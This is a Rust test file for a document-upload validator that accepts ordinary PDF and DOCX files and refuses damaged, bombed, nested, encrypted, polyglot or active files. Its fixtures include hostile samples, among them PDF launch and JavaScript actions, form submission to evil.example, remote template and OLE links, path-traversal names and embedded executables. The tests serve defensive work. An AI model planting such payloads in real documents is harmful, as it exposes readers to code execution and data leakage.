//! Which documents are taken, and which are not.

use std::io::{Cursor, Write};

use proptest::prelude::*;
use rolecall::files::judge::{Objection, judge};
use rolecall::files::model::DocumentType::{Docx, Pdf};
use zip::ZipWriter;
use zip::write::SimpleFileOptions;

use crate::documents::{deflated, docx, parts, pdf, pdf_of, stream, zipped};

const MIB: usize = 1024 * 1024;

/// Why a file is not taken, in words.
fn reason(bytes: &[u8]) -> &'static str {
    match judge(bytes).expect_err("refused") {
        Objection::Type => "type",
        Objection::Content(reason) => reason,
    }
}

fn is_refused(bytes: &[u8], word: &str) {
    let reason = reason(bytes);
    assert!(reason.contains(word), "{word}: {reason}");
}

#[test]
fn plain_documents_are_taken() {
    assert_eq!(judge(&pdf("Ada Lovelace", &[])), Ok(Pdf));
    assert_eq!(judge(&docx("Ada Lovelace", &[])), Ok(Docx));
}

#[test]
fn what_only_looks_bad_is_taken() {
    let info = b"<</Title(C++/JavaScript /Launch \\( /JS)/Subject<2F4A53>>>".to_vec();
    let text = deflated(b"BT (/JavaScript /JS /Encrypt) Tj ET");
    let packed = ascii85(&text);
    let more = [
        info,
        stream("/Filter/FlateDecode", &text),
        stream("/Filter[/ASCII85Decode/FlateDecode]", packed.as_bytes()),
        stream("/Type/XObject/Subtype/Image/Filter/DCTDecode", b"\xff\xd8 endobj /JS << [ (\xff\xd9"),
        b"<</Type/Filespec/F(cv.xml)/EF<</F 11 0 R/UF 11 0 R>>>>".to_vec(),
        stream("/Type/EmbeddedFile/Filter/FlateDecode", &deflated(b"<?xml version=\"1.0\"?><Europass/>")),
        b"<</S/URI/URI(https://example.org/ada)>>".to_vec(),
    ];
    assert_eq!(judge(&pdf("Ada", &more)), Ok(Pdf));
    let chart = zipped(&[("xl/workbook.xml", b"<workbook/>".to_vec())]);
    let template = br#"<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="file:///C:\Users\ada\cv.dotx" TargetMode="External"/></Relationships>"#;
    let more = [("word/embeddings/chart.xlsx", chart), ("word/_rels/settings.xml.rels", template.to_vec())];
    assert_eq!(judge(&docx("Ada", &more)), Ok(Docx));
}

/// Base 85 as PDF writes it.
fn ascii85(data: &[u8]) -> String {
    let mut out = String::new();
    for group in data.chunks(4) {
        let mut four = [0; 4];
        four[..group.len()].copy_from_slice(group);
        let number = u32::from_be_bytes(four);
        let digits = (0..5).rev().map(|place| (number / 85_u32.pow(place) % 85) as u8 + b'!');
        out.extend(digits.take(group.len() + 1).map(char::from));
    }
    out + "~>"
}

#[test]
fn other_types_are_refused_whatever_they_are_called() {
    let html = b"<html><script>alert(1)</script></html>";
    let png = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR";
    let workbook =
        zipped(&[("[Content_Types].xml", b"<Types/>".to_vec()), ("xl/workbook.xml", b"<workbook/>".to_vec())]);
    let late = [b"GIF89a", pdf("Ada", &[]).as_slice()].concat();
    for other in [&b""[..], b"%PD", b"%PDF-9.9", b"PK\x05\x06", html, png, &workbook, &late] {
        assert_eq!(judge(other).err().map(|_| ()), Some(()), "{:?}", &other[..other.len().min(8)]);
    }
    for (other, word) in [(&html[..], "type"), (png, "type"), (&workbook, "type"), (&late, "type")] {
        is_refused(other, word);
    }
    is_refused(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1\0\0\0\0", "old Word document or one with a password");
    let without = zipped(&parts("Ada")[..2]);
    is_refused(&without, "type");
    let mut macros = parts("Ada");
    macros[0].1 =
        String::from_utf8(macros[0].1.clone()).expect("text").replace("wordprocessingml.document.main", "macro").into();
    is_refused(&zipped(&macros), "type");
}

#[test]
fn documents_that_are_cut_off_are_refused() {
    let (pdf, docx) = (pdf("Ada", &[]), docx("Ada", &[]));
    for cut in [10, pdf.len() / 2, pdf.len() - 8] {
        is_refused(&pdf[..cut], "damaged");
    }
    for cut in [10, docx.len() / 2, docx.len() - 1] {
        is_refused(&docx[..cut], "damaged");
    }
    is_refused(&pdf_of(&[b"<</Type/Catalog>>".to_vec()]), "damaged");
}

#[test]
fn bombs_are_refused_by_what_comes_out() {
    let zeros = vec![0; 60 * MIB];
    is_refused(&docx("Ada", &[("word/media/a.bmp", zeros.clone())]), "unpacks");
    is_refused(&pdf("Ada", &[stream("/Filter/FlateDecode", &deflated(&zeros))]), "unpacks");
    // Each part is small, and they are many.
    let nine: Vec<_> = ["a", "b", "c", "d", "e", "f", "g", "h", "i"].map(|name| (name, vec![0; MIB])).into();
    is_refused(&docx("Ada", &nine), "unpacks");
    // Sizes that headers tell are not believed: this one says that 60 MiB are 10 bytes.
    let mut lying = docx("Ada", &[("word/media/a.bmp", zeros.clone())]);
    let told = u32::try_from(zeros.len()).expect("small").to_le_bytes();
    while let Some(at) = lying.windows(4).position(|window| window == told) {
        lying[at..at + 4].copy_from_slice(&10_u32.to_le_bytes());
    }
    assert!(judge(&lying).is_err());
    // A picture may be blank.
    assert_eq!(judge(&docx("Ada", &[("word/media/a.bmp", vec![255; 6 * MIB])])), Ok(Docx));
}

#[test]
fn packing_in_packing_is_refused() {
    let inner = zipped(&[("a.txt", b"a".to_vec())]);
    let middle = zipped(&[("inner.zip", inner)]);
    is_refused(&docx("Ada", &[("word/embeddings/a.xlsx", middle)]), "no word processor");
    let bomb = zipped(&[("a", vec![0; 60 * MIB])]);
    is_refused(&docx("Ada", &[("word/embeddings/a.xlsx", bomb)]), "unpacks");
    let twice = deflated(&deflated(&vec![0; MIB]));
    is_refused(&pdf("Ada", &[stream("/Filter[/FlateDecode/FlateDecode]", &twice)]), "unusual");
    for filters in [
        "/Filter/LZWDecode",
        "/Filter[/DCTDecode/FlateDecode]",
        "/Filter/Crypt",
        "/Filter 7 0 R",
        "/Filter/DCTDecode/Filter/FlateDecode",
    ] {
        is_refused(&pdf("Ada", &[stream(filters, &twice)]), "unusual");
    }
}

#[test]
fn too_many_parts_are_refused() {
    let mut zip = ZipWriter::new(Cursor::new(Vec::new()));
    for (name, content) in parts("Ada") {
        zip.start_file(name, SimpleFileOptions::default()).expect("a part");
        zip.write_all(&content).expect("written");
    }
    for at in 0..1_000 {
        zip.start_file(format!("word/media/{at}.png"), SimpleFileOptions::default()).expect("a part");
    }
    is_refused(&zip.finish().expect("a zip").into_inner(), "no word processor");
    is_refused(&pdf("Ada", &vec![b"null".to_vec(); 50_000]), "more objects");
    let holds = stream("/Type/ObjStm/N 60000/First 0/Filter/FlateDecode", &deflated(b" "));
    is_refused(&pdf("Ada", &[holds]), "more objects");
    let deep = [b"[".repeat(65), b"]".repeat(65)].concat();
    is_refused(&pdf("Ada", &[deep]), "unusual");
}

#[test]
fn names_that_lead_elsewhere_and_parts_that_hide_are_refused() {
    for name in ["../evil.xml", "word/../../evil.xml", "/etc/passwd", "C:\\evil.xml", "word\\evil.xml"] {
        is_refused(&docx("Ada", &[(name, b"<a/>".to_vec())]), "no word processor");
    }
    let good = docx("Ada", &[]);
    is_refused(&[&good[..], b"and more"].concat(), "damaged");
    // Two entries over the same bytes.
    let mut zip = ZipWriter::new(Cursor::new(Vec::new()));
    for (name, content) in parts("Ada") {
        zip.start_file(name, SimpleFileOptions::default()).expect("a part");
        zip.write_all(&content).expect("written");
    }
    zip.shallow_copy_file("word/document.xml", "word/other.xml").expect("an entry");
    is_refused(&zip.finish().expect("a zip").into_inner(), "no word processor");
}

#[test]
fn encrypted_documents_are_refused() {
    let mut locked = docx("Ada", &[]);
    // The flag of encryption, in the local header and in the directory of each part.
    for (mark, flags) in [(&b"PK\x03\x04"[..], 6), (b"PK\x01\x02", 8)] {
        let places: Vec<_> = (0..locked.len() - 4).filter(|at| locked[*at..].starts_with(mark)).collect();
        for at in places {
            locked[at + flags] |= 1;
        }
    }
    is_refused(&locked, "encrypted");
    let trailer = String::from_utf8_lossy(&pdf("Ada", &[])).contains("/Root 1 0 R");
    assert!(trailer);
    let encrypted = replaced(&pdf("Ada", &[]), b"/Root 1 0 R", b"/Root 1 0 R/Encrypt 9 0 R");
    is_refused(&encrypted, "encrypted");
}

fn replaced(bytes: &[u8], from: &[u8], to: &[u8]) -> Vec<u8> {
    let at = bytes.windows(from.len()).position(|window| window == from).expect("there");
    [&bytes[..at], to, &bytes[at + from.len()..]].concat()
}

#[test]
fn a_file_that_is_two_things_is_refused() {
    let (pdf, docx) = (pdf("Ada", &[]), docx("Ada", &[]));
    is_refused(&[&pdf[..], &docx[..]].concat(), "something else");
    // The end of a PDF in the comment of a zip, as zips allow.
    let mut both = [&pdf[..], &docx[..]].concat();
    let tail = b"startxref\n0\n%%EOF\n";
    let at = both.len() - 2;
    both[at..].copy_from_slice(&u16::try_from(tail.len()).expect("short").to_le_bytes());
    both.extend(tail);
    is_refused(&both, "something else");
    is_refused(&[&docx[..], &pdf[..]].concat(), "damaged");
}

#[test]
fn documents_that_act_are_refused() {
    for action in [
        "<</S/JavaScript/JS(app.alert(1))>>",
        "<</S/J#61vaScript/J#53(x)>>",
        "<</S/Launch/F(cmd.exe)>>",
        "<</S/GoToE>>",
        "<</S/SubmitForm/F(https://evil.example)>>",
        "<</AcroForm<</XFA 8 0 R>>>>",
        "<</Subtype/RichMedia>>",
        "<</Type/Filespec/EF<</F 5 0 R>>>>",
        "<</Type/Filespec/EF 5 0 R>>",
    ] {
        is_refused(&pdf("Ada", &[action.into()]), "scripts, attachments or actions");
        let hidden = format!("6 0 {action}");
        let hidden = stream("/Type/ObjStm/N 1/First 4/Filter/FlateDecode", &deflated(hidden.as_bytes()));
        is_refused(&pdf("Ada", &[hidden]), "scripts, attachments or actions");
    }
    let program = stream("/Type/EmbeddedFile/Filter/FlateDecode", &deflated(b"MZ\x90\0"));
    is_refused(&pdf("Ada", &[program]), "scripts, attachments or actions");
    let external = |kind: &str, target: &str| {
        let relation = format!(
            "<Relationship Type=\"http://x/relationships/{kind}\" Target=\"{target}\" TargetMode=\"External\"/>"
        );
        ("word/_rels/settings.xml.rels", relation.into_bytes())
    };
    for part in [
        ("word/vbaProject.bin", b"macros".to_vec()),
        ("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".to_vec()),
        ("word/media/picture.png", b"MZ\x90\0".to_vec()),
        external("attachedTemplate", "https://evil.example/a.dotm"),
        external("attachedTemplate", "file://evil.example/a.dotm"),
        external("oleObject", r"\\evil.example\share"),
    ] {
        is_refused(&docx("Ada", &[part]), "macros, programs or linked objects");
    }
    let entities = b"<!DOCTYPE a [<!ENTITY a \"aaaa\">]><a>&a;</a>".to_vec();
    let wide: Vec<u8> = b"\xff\xfe".iter().copied().chain(entities.iter().flat_map(|byte| [*byte, 0])).collect();
    for part in [entities, wide] {
        is_refused(&docx("Ada", &[("word/styles.xml", part)]), "no word processor");
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(200))]

    /// Whatever comes, there is a verdict.
    #[test]
    fn damaged_documents_are_judged(flips in prop::collection::vec((any::<prop::sample::Index>(), any::<u8>()), 1..12), cut in any::<prop::sample::Index>()) {
        let object = stream("/Type/ObjStm/N 1/First 4", b"6 0 <</A[/B<</C(d)>>]>>");
        for good in [pdf("Ada", &[object]), docx("Ada", &[])] {
            let mut bytes = good.clone();
            for (at, byte) in &flips {
                let at = at.index(bytes.len());
                bytes[at] = *byte;
            }
            let _ = judge(&bytes);
            let _ = judge(&bytes[..cut.index(bytes.len())]);
        }
    }
}
